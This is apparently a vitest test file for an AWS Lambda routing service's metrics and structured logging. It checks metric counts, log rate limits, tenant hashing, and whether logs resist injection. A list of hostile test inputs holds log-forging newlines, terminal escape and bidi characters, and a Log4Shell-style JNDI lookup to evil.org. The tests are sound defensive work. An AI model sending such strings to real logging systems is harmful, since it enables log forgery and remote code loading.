import { Metrics } from "@aws-lambda-powertools/metrics";
import fc from "fast-check";
import { describe, expect, it, vi } from "vitest";

import { emfLine, type Metric } from "../../lambda/router/emf";
import { logLine, tenantHasher } from "../../lambda/router/log";
import { flushMs, mostAnswerLines, mostRefusalLines } from "../../lambda/router/telemetry";
import { encodeTable } from "../../routing";
import { defaultIdentity } from "../../routing/identity";
import { exampleContent, exampleTable } from "../routing/tables";
import { ask, edgeSecret, logKey, object, setup } from "./fixture";

type Line = Readonly<Record<string, unknown>>;
const parse = (lines: readonly string[]): Line[] => lines.map((line) => JSON.parse(line) as Line);
const metricsOf = (lines: readonly string[]): Line[] => parse(lines).filter((line) => "_aws" in line);
const logsOf = (lines: readonly string[]): Line[] => parse(lines).filter((line) => "level" in line);

describe("metrics", () => {
  it("are written as Powertools writes them", () => {
    vi.stubEnv("POWERTOOLS_DEV", "true");
    const timestamp = Date.UTC(2026, 10, 22);
    const metrics: Metric[] = [
      { name: "Requests", unit: "Count", value: 7 },
      { name: "TableAge", unit: "Seconds", value: 3 },
      { name: "DecisionTime", unit: "Microseconds", value: [1.5, 2, 40] },
    ];
    vi.useFakeTimers({ now: timestamp });
    const theirs = new Metrics({ namespace: "CellRouter", serviceName: "router" });
    theirs.setDefaultDimensions({ environment: "dev", region: "eu-west-1" });
    theirs.setTimestamp(timestamp);
    for (const { name, unit, value } of metrics) {
      for (const each of [value].flat()) theirs.addMetric(name, unit, each);
    }
    const ours = emfLine({
      namespace: "CellRouter",
      timestamp,
      dimensions: { service: "router", environment: "dev", region: "eu-west-1" },
      metrics,
    });
    const expected = JSON.parse(JSON.stringify(theirs.serializeMetrics())) as {
      _aws: { CloudWatchMetrics: { Dimensions: string[][] }[] };
    };
    const actual = JSON.parse(ours) as typeof expected;
    // The order of names within a set of dimensions has no meaning.
    for (const each of [expected, actual])
      for (const { Dimensions } of each._aws.CloudWatchMetrics) Dimensions[0]!.sort();
    expect(actual).toEqual(expected);
    vi.useRealTimers();
    vi.unstubAllEnvs();
  });

  it("count every request by outcome, once an interval, under any load", async () => {
    const { handler, source, clock, lines } = setup();
    const ended = (event = ask("acme", "CN")) => handler(event).statusCode;
    ended();
    expect(metricsOf(lines)).toHaveLength(1);
    await source.idle();
    lines.length = 0;
    for (let i = 0; i < 100; i++) ended();
    for (let i = 0; i < 20; i++) ended(ask("acme", "CN", "/classify"));
    for (let i = 0; i < 3; i++) ended(ask("acme", "CN", "/route/x"));
    ended(ask("Acme", "CN"));
    ended(ask("acme", "ZZ"));
    ended(ask("a,b", "CN"));
    ended(ask("acme", "CN", "/classify/x"));
    ended({ ...ask("acme", "CN"), body: "x".repeat(2 ** 20 + 1) });
    ended({ rawPath: "/health" });
    expect(metricsOf(lines)).toEqual([]);
    clock.ms = flushMs;
    ended();
    const [line, ...more] = metricsOf(lines);
    expect(more).toEqual([]);
    expect(line).toMatchObject({
      service: "router",
      environment: "dev",
      region: "eu-west-1",
      Requests: 130,
      Redirected: 101,
      Classified: 20,
      Proxied: 3,
      Forbidden: 2,
      BadRequests: 1,
      NotFound: 1,
      TooLarge: 1,
      HealthChecks: 1,
      Unauthenticated: 0,
      Unavailable: 0,
      TableAge: 10,
      TablePollFailures: 2,
      cells: { "cell-7": 124 },
      whys: {
        "no-tenant": 1,
        "unknown-country": 1,
        "duplicate-header": 1,
        "no-such-path": 1,
        "long-body": 1,
        health: 1,
      },
    });
    expect((line!["DecisionTime"] as number[]).length).toBeGreaterThan(2);
  });

  it("count requests without a healthy cell, stand-ins and refused tables", async () => {
    const down = exampleContent().cells.map((each) =>
      each.locality === "EU" ? { ...each, state: "disabled" as const } : each,
    );
    const fetch = () => Promise.resolve(object("<html>"));
    const { handler, source, clock, lines } = setup({ base: exampleTable({ cells: down }), fetch });
    handler(ask("acme", "DE"));
    await source.idle();
    clock.ms = flushMs;
    handler(ask("acme", "DE"));
    expect(
      metricsOf(lines).map(({ NoHealthyCell, TablesRefused, Unavailable }) => [
        NoHealthyCell,
        TablesRefused,
        Unavailable,
      ]),
    ).toEqual([
      [1, 0, 1],
      [1, 1, 1],
    ]);
    expect(logsOf(lines).find(({ message }) => message === "table-refused")).toMatchObject({
      level: "ERROR",
      service: "router",
    });
  });
});

describe("the log", () => {
  it("has one line for a number of answers, and limits these lines and those of refusals", () => {
    const { handler, lines, clock } = setup({ logEvery: 100 });
    const answered = (): readonly object[] => logsOf(lines).filter(({ message }) => message === "redirected");
    for (let i = 0; i < 500; i++) handler(ask(`t-${i}`, "US"));
    expect(answered()).toHaveLength(5);
    expect(answered()[0]).toMatchObject({
      level: "INFO",
      cell: expect.stringMatching(/^cell-\d$/),
      why: "home",
      age: 0,
    });
    for (let i = 500; i < 5000; i++) handler(ask(`t-${i}`, "US"));
    expect(answered()).toHaveLength(mostAnswerLines);
    lines.length = 0;
    for (let i = 0; i < 1000; i++) handler(ask("NO", "US"));
    expect(logsOf(lines)).toHaveLength(mostRefusalLines);
    clock.ms = flushMs;
    handler(ask("NO", "US"));
    handler(ask("NO", "US"));
    expect(logsOf(lines).length).toBeGreaterThan(mostRefusalLines);
  });

  it("has API Gateway's request id, if it has the form of one", () => {
    const { handler, lines } = setup({ logEvery: 1 });
    handler({ ...ask("acme", "CN"), requestContext: { requestId: "JKJaXmPLvHcESHA=" } });
    handler({ ...ask("acme", "CN"), requestContext: { requestId: 'x"\n{"level":"INFO"}' } });
    expect(
      logsOf(lines)
        .filter(({ message }) => message === "redirected")
        .map((line) => line["function_request_id"]),
    ).toEqual(["JKJaXmPLvHcESHA=", undefined]);
  });
});

describe("external input in the log", () => {
  const evil = [
    'x\n{"level":"ERROR"}',
    "\u001b[2J",
    "\u2028",
    "\u202eabc",
    "\u009b31m",
    "${jndi:ldap://evil.org}",
    "</script>",
    "\ud800",
  ];

  it("is never written as it arrived: headers, paths and queries are left out", () => {
    const { handler, lines } = setup({ identity: defaultIdentity, logEvery: 1 });
    for (const text of evil) {
      for (const name of [
        "x-tenant-id",
        "cloudfront-viewer-country",
        "x-router-secret",
        "user-agent",
        "x-routing-refused",
      ]) {
        const event = ask("acme", "CN", `/marker${text}`, `marker=${text}`);
        handler({ ...event, headers: { ...event.headers, "x-router-secret": edgeSecret, [name]: `marker${text}` } });
      }
    }
    expect(lines.length).toBeGreaterThan(10);
    expect(lines.join("\n")).not.toContain("marker");
  });

  it("is one line each, without characters that move a terminal or hide text, and reads back the same", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 200 }), (text) => {
        const line = logLine("WARN", "poll-failed", 0, { reason: text });
        expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
        expect((JSON.parse(line) as { reason: string }).reason).toBe(text);
      }),
      { numRuns: 5000 },
    );
    expect(logLine("WARN", "x", 0, { reason: "y".repeat(10_000) }).length).toBeLessThan(500);
  });

  it("cannot be forged by a table that was published broken", async () => {
    const text = encodeTable(exampleTable({}, 2)).replace(
      '"environment":"test"',
      '"environment":"test\\n{\\"level\\":\\"INFO\\"}"',
    );
    const { handler, source, lines } = setup({ fetch: () => Promise.resolve(object(text)) });
    handler(ask("acme", "CN"));
    await source.idle();
    const line = lines.find((each) => each.includes("table-refused"));
    expect(line).toBeDefined();
    expect(line).not.toContain("\n");
  });

  it("has tenants only as keyed hashes, equal for the same tenant and different under another key", () => {
    const { handler, lines } = setup({ logEvery: 1 });
    for (const tenant of ["acme", "acme", "globex"]) handler(ask(tenant, "CN"));
    const hashes = logsOf(lines).flatMap((line) => ("tenant_hash" in line ? [line["tenant_hash"]] : []));
    expect(hashes[0]).toMatch(/^[0-9a-f]{16}$/);
    expect(hashes[0]).toBe(hashes[1]);
    expect(hashes[2]).not.toBe(hashes[0]);
    expect(lines.join("")).not.toMatch(/acme|globex/);
    expect(tenantHasher(logKey)("acme")).toBe(hashes[0]);
    expect(tenantHasher(`${logKey}x`)("acme")).not.toBe(hashes[0]);
  });
});
